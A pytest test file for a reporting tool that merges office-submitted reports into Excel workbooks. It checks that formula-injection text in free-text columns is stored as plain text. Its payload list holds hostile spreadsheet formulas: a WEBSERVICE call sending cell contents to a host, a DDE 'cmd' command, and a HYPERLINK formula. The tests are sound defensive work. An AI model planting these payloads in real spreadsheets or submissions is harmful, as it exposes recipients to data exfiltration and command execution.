"""Spreadsheet formula injection: free text from a submitted report never becomes a formula
in a workbook the project writes (``collect``'s merged table, ``ringkasan.xlsx``, the
sample submissions), and the text is kept exactly (``collect`` re-reads its own table)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from workbench.bakohumas.reader import read_reports
from workbench.cli import main
from workbench.paths import SAMPLE_BAKOHUMAS_DIR
from workbench.samples.kiriman import write_kiriman
from workbench.xlsx_write import append_row

#: What a hostile office types into the free-text columns (the reader trims whitespace, so
#: the text that reaches the output is ``payload.strip()``).
PAYLOADS = (
    '=WEBSERVICE("http://127.0.0.1:9/x?"&B2)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    '\t=HYPERLINK("http://127.0.0.1:9/";"klik")',
    "=1+1\n=2+2",
    "#N/A",
    "-5",
    "=",
)
TEXT = ("uraian_kegiatan", "kendala")


def run_cli(args: list[str]) -> int:
    with pytest.raises(SystemExit) as info:
        main(args)
    return info.value.code


def formula_cells(path) -> list[str]:
    """Coordinates of every formula or error cell in the workbook at ``path``."""
    book = load_workbook(path, data_only=False)
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type in ("f", "e")
    ]


def hostile(table: pd.DataFrame, tw: int) -> pd.DataFrame:
    """The quarter's rows with the payloads in both text columns of the first offices."""
    rows = table[table["triwulan"] == tw].reset_index(drop=True).copy()
    for i, payload in enumerate(PAYLOADS):
        rows.loc[i, "uraian_kegiatan"] = payload
        rows.loc[i, "kendala"] = PAYLOADS[-1 - i]
    return rows


def expected_text(rows: pd.DataFrame) -> dict[tuple[str, int], tuple[str, str]]:
    return {
        (r["kode_satker"], int(r["triwulan"])): tuple(str(r[c]).strip() for c in TEXT)
        for r in rows.to_dict("records")
    }


def stored_text(table: pd.DataFrame) -> dict[tuple[str, int], tuple[str, str]]:
    return {
        (r["kode_satker"], int(r["triwulan"])): tuple(r[c] for c in TEXT)
        for r in table.to_dict("records")
    }


@pytest.fixture(scope="module")
def collected(tmp_path_factory):
    """TW 1 collected into ``provinsi.xlsx``, then TW 2 collected into the same file (which
    re-reads it), both from hostile submissions written by the sample generator."""
    tmp = tmp_path_factory.mktemp("formula")
    sample = read_reports(SAMPLE_BAKOHUMAS_DIR / "laporan-triwulan.csv")
    province = tmp / "provinsi.xlsx"
    rows = {}
    for tw in (1, 2):
        rows[tw] = hostile(sample, tw)
        folder = tmp / f"kiriman-tw{tw}"
        folder.mkdir()
        write_kiriman(rows[tw], folder)
        assert (
            run_cli(["collect", str(folder), "--out", str(province), "--period", f"2025-TW{tw}"])
            == 0
        )
    assert (
        run_cli(
            [
                "collect",
                str(tmp / "kiriman-tw2"),
                "--out",
                str(tmp / "tw2.csv"),
                "--period",
                "2025-TW2",
            ]
        )
        == 0
    )
    return tmp, province, {**expected_text(rows[1]), **expected_text(rows[2])}


def test_sample_submissions_hold_no_formula(collected):
    tmp, _, _ = collected
    books = sorted((tmp / "kiriman-tw2").glob("*.xlsx"))
    assert books
    for book in books:
        assert formula_cells(book) == [], book.name
    texts = {
        c.value for book in books for row in load_workbook(book)["Laporan"].iter_rows() for c in row
    }
    assert len(texts & set(PAYLOADS)) >= 5  # most offices send XLSX; the text is unchanged


def test_collect_xlsx_keeps_hostile_text_as_text(collected):
    _, province, expected = collected
    assert formula_cells(province) == []
    sheet = load_workbook(province, data_only=False)["Laporan"]
    cells = {c.value for row in sheet.iter_rows(min_row=2) for c in row}
    assert {p.strip() for p in PAYLOADS} <= cells
    table = read_reports(province)
    assert len(table) == 75 and stored_text(table) == expected


def test_collect_xlsx_round_trips_like_csv(collected):
    """The merged XLSX reads back the same as the CSV written from the same submissions."""
    tmp, province, _ = collected
    from_xlsx = read_reports(province)
    tw2 = from_xlsx[from_xlsx["triwulan"] == 2].reset_index(drop=True)
    pd.testing.assert_frame_equal(tw2, read_reports(tmp / "tw2.csv"))


@pytest.mark.slow
def test_ringkasan_xlsx_keeps_hostile_text_as_text(collected):
    """``kendala`` reaches ringkasan.xlsx; it stays text there too."""
    tmp, province, expected = collected
    out = tmp / "reports"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "workbench",
            "evaluate",
            str(province),
            "--period",
            "2025-TW2",
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr
    ringkasan = out / "bakohumas" / "2025-TW2" / "ringkasan.xlsx"
    assert formula_cells(ringkasan) == []
    frame = pd.read_excel(ringkasan, dtype=str, keep_default_na=False)
    kendala = dict(zip(frame["kode_satker"], frame["kendala"]))
    want = {kode: text[1] for (kode, tw), text in expected.items() if tw == 2}
    assert {k: kendala[k] for k in want} == want
    assert {p.strip() for p in PAYLOADS} <= set(kendala.values())


def test_append_row_stores_every_str_as_text(tmp_path):
    """Leading tab/CR/LF text (the reader trims it, other writers might not), error-code
    spellings and numbers typed as text come back exactly; numbers and blanks unchanged."""
    values = [*PAYLOADS, "\r\n=1+1", "\n@A1", " =x", 5, -2.5, None, "plain"]
    book = Workbook()
    append_row(book.active, values)
    book.save(tmp_path / "t.xlsx")
    assert formula_cells(tmp_path / "t.xlsx") == []
    row = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=True))
    assert list(row) == values


def test_meeting_workbook_keeps_formula_like_text(tmp_path):
    """A record written as XLSX (``write_meeting_xlsx``) keeps '=...' text as text, and
    reads back."""
    import shutil

    from workbench.rakor.blank import write_meeting_xlsx
    from workbench.rakor.readers.record import load_meeting

    fixtures = Path(__file__).parents[1] / "fixtures" / "meeting"
    record = tmp_path / "meeting.yaml"
    shutil.copy(fixtures / "minimal.yaml", record)
    payload = '=WEBSERVICE("http://contoh.invalid/?"&B2)'
    record.write_text(
        record.read_text(encoding="utf-8").replace(
            "  - Standar output diterapkan.", f"  - '{payload}'"
        ),
        encoding="utf-8",
    )
    target = write_meeting_xlsx(load_meeting(record), tmp_path / "rapat.xlsx")
    assert formula_cells(target) == []
    assert load_meeting(target).kesimpulan[0] == payload
